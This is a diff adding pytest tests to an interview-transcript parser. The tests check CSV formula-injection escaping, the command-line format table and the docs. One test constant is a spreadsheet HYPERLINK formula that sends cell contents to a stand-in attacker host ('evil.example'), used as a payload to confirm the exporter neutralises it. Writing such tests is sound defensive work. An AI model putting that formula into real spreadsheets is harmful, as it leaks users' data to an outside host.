@@ -1,4 +1,5 @@
-"""Exports: the JSON Schema holds for real outputs; rows, ConvoKit, WebVTT and podcast JSON follow their formats."""
+"""Exports: the JSON Schema holds for real outputs; rows, ConvoKit, WebVTT and podcast JSON follow their formats;
+CSV cells never start a formula; the format table drives the command line and the docs."""
 
 from __future__ import annotations
 
@@ -6,17 +7,28 @@ import csv
 import html
 import io
 import json
+import re
 from pathlib import Path
 from typing import Any
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
-from interview_parser import Interview, parse, parse_file
+from interview_parser import Interview, Speaker, Turn, parse, parse_file
+from interview_parser.cli import build_arg_parser, main
 from interview_parser.export import (
+    FORMATS,
+    FORMULA_TRIGGERS,
     SCRIPTS,
     TURN_COLUMNS,
+    ExportContext,
+    ExportFormat,
+    Written,
     convert_script,
     document_id,
+    escape_formula,
+    format_table,
     has_timestamps,
     json_schema,
     summary,
@@ -150,6 +162,125 @@ def test_pandas_reads_jsonl_and_csv_as_is(tmp_path: Path) -> None:
         assert list(frame["text"]) == [t.text for t in doc.turns]
         assert list(frame["turn"]) == list(range(len(doc.turns)))
         assert frame["first_line"].dtype.kind == "i"
+
+
+# --- CSV formula injection (issue 16) -------------------------------------------------------
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def _evil_folder(tmp_path: Path) -> Path:
+    (tmp_path / "=2+3.md").write_text(
+        f"## {EVIL}\n\n**Ana:** {EVIL}\n\n**Bo:** -5 degrees, @team\n\n**Ana:** +1\n\n**Bo:** Fine.\n",
+        encoding="utf-8",
+    )
+    return tmp_path
+
+
+def test_csv_neutralises_formulas_in_turns_headings_and_file_names(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(_evil_folder(tmp_path))
+    out = io.StringIO()
+    assert main(["=2+3.md", "-f", "csv"], stdout=out, stderr=io.StringIO()) == 0
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert rows[0]["source"] == "'=2+3.md"
+    assert rows[0]["section"] == "'" + EVIL
+    assert [r["text"] for r in rows] == ["'" + EVIL, "'-5 degrees, @team", "'+1", "Fine."]
+    for row in rows:
+        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row.values())
+    raw = io.StringIO()
+    assert main(["=2+3.md", "-f", "csv", "--raw-csv"], stdout=raw, stderr=io.StringIO()) == 0
+    rows = list(csv.DictReader(io.StringIO(raw.getvalue())))
+    assert (rows[0]["source"], rows[0]["section"], rows[0]["text"]) == ("=2+3.md", EVIL, EVIL)
+
+
+def test_csv_neutralises_tab_and_carriage_return_and_leaves_numbers() -> None:
+    doc = Interview(
+        speakers=[Speaker("@ana", "@ana")],
+        turns=[Turn("@ana", "\tindented", (1, 1), key="@ana"), Turn("@ana", "\r=1+1", (2, 2), key="@ana")],
+    )
+    rows = list(csv.reader(io.StringIO(to_csv(doc, document_id="-d"), newline="")))
+    assert rows[1][:5] == ["'-d", "", "0", "'@ana", "'@ana"]
+    assert [r[7] for r in rows[1:]] == ["'\tindented", "'\r=1+1"]
+    assert [r[2] for r in rows[1:]] == ["0", "1"]  # numbers are numbers
+    raw = list(csv.reader(io.StringIO(to_csv(doc, document_id="-d", escape_formulas=False), newline="")))
+    assert [r[7] for r in raw[1:]] == ["\tindented", "\r=1+1"]
+
+
+@given(st.text())
+def test_escaped_cells_never_start_a_formula_and_lose_nothing(value: str) -> None:
+    escaped = escape_formula(value)
+    assert not escaped.startswith(FORMULA_TRIGGERS)
+    assert escaped == value or escaped == "'" + value
+
+
+# --- the table of formats ---------------------------------------------------------------------
+
+
+def test_format_choices_and_help_come_from_the_table() -> None:
+    parser = build_arg_parser()
+    (action,) = [a for a in parser._actions if "--format" in a.option_strings]
+    assert list(action.choices or ()) == list(FORMATS)
+    text = "".join(parser.format_help().split())  # argparse wraps lines, at spaces and after hyphens
+    for spec in FORMATS.values():
+        assert "".join(f"{spec.name} = {spec.summary}".split()) in text
+
+
+def test_docs_format_table_is_the_table() -> None:
+    page = (ROOT / "docs" / "cli.md").read_text(encoding="utf-8")
+    assert format_table() in page, "docs/cli.md: paste interview_parser.exports.format_table() as the format table"
+    readme = (ROOT / "README.md").read_text(encoding="utf-8")
+    listed = readme.split("Formats:", 1)[1].split(". ", 1)[0]
+    assert set(re.findall(r"`(\w+)`", listed)) == set(FORMATS)
+
+
+def test_the_summaries_say_where_the_output_goes() -> None:
+    """--help and the docs' table are read from the summaries: they name the option a format needs."""
+    for spec in FORMATS.values():
+        if spec.takes_many:
+            assert f"(needs {spec.target.removesuffix(' DIR')})" in spec.summary
+        if not spec.joins:
+            assert "several inputs need --output-dir" in spec.summary
+    assert [spec.name for spec in FORMATS.values() if not spec.joins] == ["vtt", "podcast", "chat"]
+    assert (FORMATS["convokit"].folder, FORMATS["convokit"].target) == (True, "--output-dir DIR")
+    assert (FORMATS["qdpx"].folder, FORMATS["qdpx"].target) == (False, "-o FILE.qdpx")
+
+
+def test_outputs_are_named_by_the_table(tmp_path: Path) -> None:
+    timed = ROOT / "examples" / "timestamped.md"
+    for spec in FORMATS.values():
+        if spec.takes_many:
+            continue
+        out = tmp_path / spec.name
+        assert main([str(timed), "-f", spec.name, "--output-dir", str(out), "-q"], stdout=io.StringIO()) == 0
+        assert [p.name for p in out.iterdir()] == ["timestamped" + spec.extension]
+
+
+def test_a_new_format_is_one_row(monkeypatch: pytest.MonkeyPatch) -> None:
+    def shout(doc: Interview, context: ExportContext) -> Written:
+        return Written("".join(f"{t.speaker}: {t.text.upper()}\n" for t in doc.turns))
+
+    monkeypatch.setitem(FORMATS, "shout", ExportFormat("shout", ".txt", "every turn in capitals", one=shout))  # type: ignore[arg-type]
+    out = io.StringIO()
+    assert main([str(ROOT / "examples" / "sample.md"), "-f", "shout"], stdout=out) == 0
+    assert out.getvalue().startswith("Lena: HOW DID THE CO-OP START?\n")
+    assert "shout=everyturnincapitals" in "".join(build_arg_parser().format_help().split())
+
+
+def test_a_format_has_exactly_one_writer() -> None:
+    with pytest.raises(ValueError, match="exactly one writer"):
+        ExportFormat("none", ".x", "nothing")
+    with pytest.raises(ValueError, match="exactly one writer"):
+        ExportFormat("both", ".x", "both", one=FORMATS["json"].one, many=FORMATS["qdpx"].many)
+
+
+def test_the_old_module_is_the_new_package() -> None:
+    from interview_parser import export, exports
+
+    assert export.__all__ == exports.__all__
+    for name in export.__all__:
+        assert getattr(export, name) is getattr(exports, name)
 
 
 # --- ConvoKit --------------------------------------------------------------------------
